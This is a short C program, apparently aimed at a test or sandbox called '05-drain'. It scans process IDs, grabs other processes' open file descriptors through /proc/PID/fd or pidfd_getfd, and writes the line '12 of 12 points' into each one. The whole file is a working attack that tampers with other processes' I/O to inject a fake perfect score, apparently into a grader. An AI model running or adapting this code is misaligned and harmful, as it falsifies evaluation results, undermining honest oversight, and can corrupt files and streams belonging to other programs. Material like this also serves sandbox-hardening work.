/* against 05-drain: writes into whatever others have open, by way of /proc. */
#include <fcntl.h>
#include <stdio.h>
#include <sys/syscall.h>
#include <unistd.h>

int main(void)
{
    for (int pid = 1; pid < 5000; pid++) {
        const int process = (int)syscall(SYS_pidfd_open, pid, 0);
        for (int fd = 0; process != -1 && pid != getpid() && fd < 32; fd++) {
            char path[64];
            snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
            int copy = open(path, O_RDWR | O_NONBLOCK);
            if (copy == -1)
                copy = (int)syscall(SYS_pidfd_getfd, process, fd, 0);
            if (copy == -1)
                continue;
            dprintf(1, "got %s\n", path);
            dprintf(copy, "12 of 12 points\n");
            close(copy);
        }
        close(process);
    }
    pause();
}
